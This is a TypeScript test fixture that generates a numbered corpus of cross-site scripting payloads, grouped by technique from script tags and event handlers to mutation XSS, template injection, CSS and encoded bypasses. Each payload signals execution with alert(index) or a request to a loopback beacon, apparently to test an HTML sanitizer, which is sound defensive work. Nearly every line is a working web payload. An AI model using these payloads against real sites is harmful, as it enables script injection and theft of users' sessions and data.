/**
 * The XSS corpus of issue 5, suite 6: our own list, grouped by technique. Every payload that could
 * run proves it: `alert(<index>)`, or a request to the loopback beacon (`/hit?p=<index>`), so an
 * execution is counted rather than guessed. Templates get the proof of their own index.
 */

export interface Proof {
  index: number;
  /** `alert(<index>)` */
  alert: string;
  /** The beacon URL of this payload: any request to it counts as an execution. */
  hit: string;
  /** A statement that requests `hit`. */
  fetch: string;
}

export interface Payload {
  index: number;
  group: string;
  text: string;
}

type Template = (p: Proof) => string;

const base64 = (text: string) => Buffer.from(text).toString('base64');
const entities = (text: string) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join('');

const SCRIPT_TAGS: Template[] = [
  (p) => `<script>${p.alert}</script>`,
  (p) => `<SCRIPT>${p.alert}</SCRIPT>`,
  (p) => `<ScRiPt>${p.alert}</sCrIpT>`,
  (p) => `<script >${p.alert}</script >`,
  (p) => `<script\n>${p.alert}</script\n>`,
  (p) => `<script\t>${p.alert}</script>`,
  (p) => `<script/x>${p.alert}</script>`,
  (p) => `<script type="text/javascript">${p.fetch}</script>`,
  (p) => `<script type="module">${p.alert}</script>`,
  (p) => `<script src="${p.hit}"></script>`,
  (p) => `<script src=${p.hit}></script>`,
  (p) => `<scr<script>ipt>${p.alert}</scr</script>ipt>`,
  (p) => `<<script>${p.alert};//<</script>`,
  (p) => `<script>${p.alert}`,
  (p) => `<script>/*</script>*/${p.alert}</script>`,
  (p) => `<script>eval('al'+'ert(${p.index})')</script>`,
  (p) => `<script>setTimeout('${p.alert}')</script>`,
  (p) => `<script>\\u0061lert(${p.index})</script>`,
  (p) => `<script>window['al'+'ert'](${p.index})</script>`,
  (p) => `<script>top['alert'](${p.index})</script>`,
  (p) => `<script x>${p.alert}</script x>`,
  (p) => `<script>${p.fetch}</script>`,
];

const EVENT_HANDLERS: Template[] = [
  (p) => `<img src=x onerror=${p.alert}>`,
  (p) => `<img src="x" onerror="${p.fetch}">`,
  (p) => `<IMG SRC=x OnErRoR=${p.alert}>`,
  (p) => `<img src=x onerror=${p.alert}//`,
  (p) => `<img/src=x/onerror=${p.alert}>`,
  (p) => `<img srcset=x onerror=${p.alert}>`,
  (p) => `<image src=x onerror=${p.alert}>`,
  (p) => `<picture><source srcset=x><img src=x onerror=${p.alert}></picture>`,
  (p) => `<svg onload=${p.alert}>`,
  (p) => `<svg/onload=${p.alert}>`,
  (p) => `<body onload=${p.alert}>`,
  (p) => `<body onpageshow=${p.alert}>`,
  (p) => `<frameset onload=${p.alert}>`,
  (p) => `<details open ontoggle=${p.alert}>`,
  (p) => `<details/open/ontoggle="${p.fetch}">`,
  (p) => `<input autofocus onfocus=${p.alert}>`,
  (p) => `<select autofocus onfocus=${p.alert}></select>`,
  (p) => `<textarea autofocus onfocus=${p.alert}></textarea>`,
  (p) => `<keygen autofocus onfocus=${p.alert}>`,
  (p) => `<div tabindex=1 autofocus onfocus=${p.alert}>x</div>`,
  (p) => `<marquee onstart=${p.alert}>x</marquee>`,
  (p) => `<marquee loop=1 width=0 onfinish=${p.alert}>x</marquee>`,
  (p) => `<video><source onerror="${p.alert}"></video>`,
  (p) => `<video src=x onerror=${p.alert}></video>`,
  (p) => `<audio src=x onerror=${p.alert}>`,
  (p) => `<audio><source src=x onerror=${p.alert}></audio>`,
  (p) => `<iframe onload=${p.alert}></iframe>`,
  (p) => `<object data=x onerror=${p.alert}></object>`,
  (p) => `<style onload=${p.alert}></style>`,
  (p) => `<link rel=stylesheet href=x onerror=${p.alert}>`,
  (p) => `<div onmouseover="${p.alert}" style="position:fixed;inset:0">x</div>`,
  (p) => `<div onpointerenter=${p.alert} style=position:fixed;inset:0>x</div>`,
  (p) => `<x onclick=${p.alert} contenteditable>click</x>`,
  (p) => `<isindex type=image src=1 onerror=${p.alert}>`,
];

const SCRIPT_URLS: Template[] = [
  (p) => `javascript:${p.alert}`,
  (p) => `JaVaScRiPt:${p.alert}`,
  (p) => ` javascript:${p.alert}`,
  (p) => `java\tscript:${p.alert}`,
  (p) => `javascript://%0a${p.alert}`,
  (p) => `javascript:void(0);${p.fetch}`,
  (p) => `javascript:/*${'%2F'.repeat(60)}*/${p.alert}`,
  (p) => `data:text/html;base64,${base64(`<script>${p.alert}</script>`)}`,
  (p) => `vbscript:msgbox(${p.index})`,
  (p) => `<a href="javascript:${p.alert}">x</a>`,
  (p) => `<a href=" javascript:${p.alert}">x</a>`,
  (p) => `<a href="data:text/html,<script>${p.alert}</script>">x</a>`,
  (p) => `<a href="vbscript:msgbox(${p.index})">x</a>`,
  (p) => `<iframe src="javascript:${p.alert}"></iframe>`,
  (p) => `<iframe src="data:text/html,<script>${p.alert}</script>"></iframe>`,
  (p) => `<form action="javascript:${p.alert}"><input type=submit></form>`,
  (p) => `<form><button formaction="javascript:${p.alert}">x</button></form>`,
  (p) => `<embed src="javascript:${p.alert}">`,
  (p) => `<object data="javascript:${p.alert}"></object>`,
  (p) => `<img src="javascript:${p.alert}">`,
  (p) => `<isindex action=javascript:${p.alert} type=image>`,
  (p) => `<frameset><frame src="javascript:${p.alert}"></frameset>`,
];

const SVG_AND_MATHML: Template[] = [
  (p) => `<svg><script>${p.alert}</script></svg>`,
  (p) => `<svg><script href="data:,${p.alert}"></script></svg>`,
  (p) => `<svg><script xlink:href="data:,${p.alert}"></script></svg>`,
  (p) => `<svg><a><animate attributeName=href values=javascript:${p.alert} /><text x=20 y=20>x</text></a></svg>`,
  (p) => `<svg><a xlink:href="javascript:${p.alert}"><text y=20>x</text></a></svg>`,
  (p) => `<svg><animate onbegin=${p.alert} attributeName=x dur=1s>`,
  (p) => `<svg><set onbegin=${p.alert} attributeName=x to=1>`,
  (p) => `<svg><discard onbegin=${p.alert}>`,
  (p) => `<svg><image href=x onerror=${p.alert} /></svg>`,
  (p) => `<svg><foreignObject><iframe srcdoc="<script>${p.alert}</script>"></iframe></foreignObject></svg>`,
  (p) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${p.alert}'/></svg>#x"/></svg>`,
  (p) => `<svg><desc><![CDATA[</desc><script>${p.alert}</script>]]></svg>`,
  (p) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${p.fetch}"/>`,
  (p) => `<math><maction actiontype=statusline xlink:href=javascript:${p.alert}>x</maction></math>`,
  (p) => `<math href="javascript:${p.alert}">x</math>`,
  (p) => `<math><mi xlink:href="data:x,<script>${p.alert}</script>">x</mi></math>`,
];

const MUTATION: Template[] = [
  (p) => `<noscript><p title="</noscript><img src=x onerror=${p.alert}>">`,
  (p) => `<svg><style><img src=x onerror=${p.alert}>`,
  (p) => `<svg></p><style><a id="</style><img src=1 onerror=${p.alert}>">`,
  (p) => `</title><img src=x onerror=${p.alert}>`,
  (p) => `</textarea><img src=x onerror=${p.alert}>`,
  (p) => `</xmp><img src=x onerror=${p.alert}>`,
  (p) => `</style><img src=x onerror=${p.alert}>`,
  (p) => `</noscript><img src=x onerror=${p.alert}>`,
  (p) => `</script><img src=x onerror=${p.alert}>`,
  (p) => `<noembed><img title="</noembed><img src=x onerror=${p.alert}>"></noembed>`,
  (p) => `<noframes><img title="</noframes><img src=x onerror=${p.alert}>"></noframes>`,
  (p) => `<iframe><img title="</iframe><img src=x onerror=${p.alert}>"></iframe>`,
  (p) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${p.alert}>`,
  (p) => `<math><mtext><table><mglyph><style><img src=x onerror=${p.alert}>`,
  (p) => `<!--<img src="--><img src=x onerror=${p.alert}//">`,
  (p) => `<svg><style>&lt;img src=x onerror=${p.alert}&gt;</style></svg>`,
  (p) => `<template><img src=x onerror=${p.alert}></template>`,
  (p) => `<listing>&lt;img src=x onerror=${p.alert}&gt;</listing>`,
];

const ATTRIBUTE_BREAKOUTS: Template[] = [
  (p) => `"><img src=x onerror=${p.alert}>`,
  (p) => `'><img src=x onerror=${p.alert}>`,
  (p) => `"><svg onload=${p.alert}>`,
  (p) => `"><script>${p.alert}</script>`,
  (p) => `" onmouseover="${p.alert}" x="`,
  (p) => `' onmouseover='${p.alert}' x='`,
  (p) => `" autofocus onfocus="${p.alert}" x="`,
  (p) => `\` onmouseover=${p.alert} \``,
  (p) => `<img src="x\` \`<script>${p.alert}</script>"\` \`>`,
  (p) => `x" onerror="${p.fetch}`,
  (p) => `"/><img/src=x onerror=${p.alert}>`,
  (p) => `-->'"><img src=x onerror=${p.alert}>`,
  (p) => `]]><img src=x onerror=${p.alert}>`,
  (p) => `';${p.alert};//`,
  (p) => `";${p.alert};//`,
  (p) => `\\";${p.alert};//`,
  (p) => `</script><script>${p.alert}</script>`,
  (p) => `"><img src=${'x'.repeat(240)} onerror=${p.alert}>`,
];

const TEMPLATES: Template[] = [
  (p) => `{{constructor.constructor('${p.alert}')()}}`,
  (p) => `{{$on.constructor('${p.alert}')()}}`,
  (p) => `{{[].pop.constructor('${p.alert}')()}}`,
  (p) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${p.alert}//');}}`,
  (p) => `<div ng-app ng-csp><div ng-focus="$event.view.${p.alert}" tabindex=1 autofocus>x</div></div>`,
  (p) => `<x ng-init="constructor.constructor('${p.alert}')()">`,
  (p) => `{{${p.alert}}}`,
  (p) => `\${${p.alert}}`,
  (p) => `#{${p.alert}}`,
  (p) => `<%= ${p.alert} %>`,
  (p) => `[[${p.alert}]]`,
  (p) => `<div v-html="''.constructor.constructor('${p.alert}')()">x</div>`,
];

const CSS: Template[] = [
  (p) => `<div style="background:url(javascript:${p.alert})">x</div>`,
  (p) => `<div style="width:expression(${p.alert})">x</div>`,
  (p) => `<div style="x:\\65 xpression(${p.alert})">x</div>`,
  (p) => `<style>*{x:expression(${p.alert})}</style>`,
  (p) => `<style>@import 'javascript:${p.alert}';</style>`,
  (p) => `<style>@import url("${p.hit}");</style>`,
  (p) => `<style>body{background:url("${p.hit}")}</style>`,
  (p) => `<div style="background-image:url(${p.hit})">x</div>`,
  (p) => `<div style="-moz-binding:url(${p.hit}#x)">x</div>`,
  (p) => `<svg><style>@import url(${p.hit})</style></svg>`,
];

const ENCODED: Template[] = [
  (p) => `&lt;script&gt;${p.alert}&lt;/script&gt;`,
  (p) => `&#60;script&#62;${p.alert}&#60;/script&#62;`,
  (p) => `&#x3C;img src=x onerror=${p.alert}&#x3E;`,
  (p) => `&#0000060;img src=x onerror=${p.alert}&#0000062;`,
  (p) => `%3Cscript%3E${p.alert}%3C/script%3E`,
  (p) => `%253Cimg%2520src%253Dx%2520onerror%253D${p.alert}%253E`,
  (p) => `\\u003cscript\\u003e${p.alert}\\u003c/script\\u003e`,
  (p) => `\\x3cimg src=x onerror=${p.alert}\\x3e`,
  (p) => `\\74img src=x onerror=${p.alert}\\76`,
  (p) => `＜script＞${p.alert}＜/script＞`,
  (p) => `+ADw-script+AD4-${p.alert}+ADw-/script+AD4-`,
  (p) => `<scr\u200Bipt>${p.alert}</scr\u200Bipt>`,
  (p) => `<img src=x onerror=\u2028${p.alert}>`,
  (p) => `<img src=x onerror=${entities('alert')}(${p.index})>`,
  (p) => `<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;${p.index}&#x29;>`,
  (p) => `<svg onload=a&#x6c;ert(${p.index})>`,
  (p) => `<a href="${entities('javascript:')}${p.alert}">x</a>`,
  (p) => `<a href="jav&#x61;script:${p.alert}">x</a>`,
  (p) => `<a href="javascript&colon;${p.alert}">x</a>`,
  (p) => `<a href="jav&#x0A;ascript:${p.alert}">x</a>`,
  (p) => `<img src=x onerror=eval(atob('${base64(p.alert)}'))>`,
];

const EMBEDDING: Template[] = [
  (p) => `<iframe srcdoc="<script>${p.alert}</script>"></iframe>`,
  (p) => `<iframe srcdoc="&lt;img src=x onerror=${p.alert}&gt;"></iframe>`,
  (p) => `<iframe srcdoc='<svg onload=${p.alert}>'></iframe>`,
  (p) => `<iframe src="${p.hit}"></iframe>`,
  (p) => `<meta http-equiv="refresh" content="0;url=javascript:${p.alert}">`,
  (p) => `<meta http-equiv="refresh" content="0;url=${p.hit}">`,
  (p) => `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${p.alert}</script>">`,
  (p) => `<base href="javascript:${p.alert}//">`,
  (p) => `<base href="${p.hit}/">`,
  (p) => `<link rel=import href="${p.hit}">`,
  (p) => `<link rel=prefetch href="${p.hit}">`,
  (p) => `<link rel=preload as=script href="${p.hit}">`,
  (p) => `<object data="data:text/html,<script>${p.alert}</script>"></object>`,
  (p) => `<object type="text/html" data="${p.hit}"></object>`,
  (p) =>
    `<object data="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${p.alert}"/>`)}"></object>`,
  (p) => `<embed src="data:text/html,<script>${p.alert}</script>">`,
  (p) => `<embed src="${p.hit}">`,
  (p) => `<img src="${p.hit}">`,
  (p) => `<video poster="${p.hit}"></video>`,
  (p) => `<input type=image src="${p.hit}">`,
];

const GROUPS: Record<string, Template[]> = {
  'script tags': SCRIPT_TAGS,
  'event handlers': EVENT_HANDLERS,
  'javascript:/data:/vbscript: URLs': SCRIPT_URLS,
  'SVG and MathML': SVG_AND_MATHML,
  'mutation XSS': MUTATION,
  'attribute breakouts': ATTRIBUTE_BREAKOUTS,
  'template injection': TEMPLATES,
  CSS,
  'entity- and unicode-encoded': ENCODED,
  'iframe, meta, base, link, object, embed': EMBEDDING,
};

/** The whole corpus, numbered from 0, with every proof pointing at the beacon on `beaconOrigin`. */
export function xssCorpus(beaconOrigin: string): Payload[] {
  const templates = Object.entries(GROUPS).flatMap(([group, list]) => list.map((template) => ({ group, template })));
  return templates.map(({ group, template }, index) => {
    const hit = `${beaconOrigin}/hit?p=${index}`;
    const proof = { index, alert: `alert(${index})`, hit, fetch: `fetch('${hit}')` };
    return { index, group, text: template(proof) };
  });
}
